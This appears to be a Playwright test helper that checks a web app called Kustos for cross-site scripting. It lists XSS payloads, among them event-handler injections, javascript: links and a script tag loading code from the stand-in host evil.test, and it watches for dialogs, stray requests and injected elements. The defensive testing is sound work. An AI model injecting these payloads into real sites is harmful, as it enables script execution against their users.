import type { Page } from '@playwright/test'
import { expect } from './test.ts'

/** What a page that takes text for its own would run, load or follow. */
export const payloads = [
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)//',
  '</script><script src=//evil.test/x></script>',
  "'-alert(1)-'{{7*7}}",
  '[a](javascript:alert(1))',
] as const

/** Notes all that a page does which nothing of Kustos does. */
export async function watch(page: Page, origin: string): Promise<string[]> {
  const deeds: string[] = []
  page.on('dialog', async (dialog) => {
    deeds.push(`a dialog: ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('popup', (popup) => deeds.push(`a window: ${popup.url()}`))
  page.context().on('request', (request) => {
    const url = new URL(request.url())
    if (/^(https?|wss?):$/.test(url.protocol) && url.origin !== origin) deeds.push(`a request: ${url}`)
    if (url.pathname === '/x' || url.pathname.endsWith('/x')) deeds.push(`a picture: ${url}`)
  })
  await page.exposeFunction('tellViolation', (what: string) => void deeds.push(`a violation: ${what}`))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      const tell: unknown = Reflect.get(window, 'tellViolation')
      if (typeof tell === 'function') tell(`${violatedDirective} ${blockedURI}`)
    })
  })
  return deeds
}

export const settled = (page: Page) =>
  expect(page.locator('[aria-busy=true], .mantine-Skeleton-root')).toHaveCount(0)

/** Nothing of a payload has become a part of the page. */
export async function clean(page: Page) {
  await expect(
    page.locator(
      'img[src="x"], [onerror], [onload], a[href^="javascript:" i], script[src*="evil"], iframe, object, embed',
    ),
  ).toHaveCount(0)
}
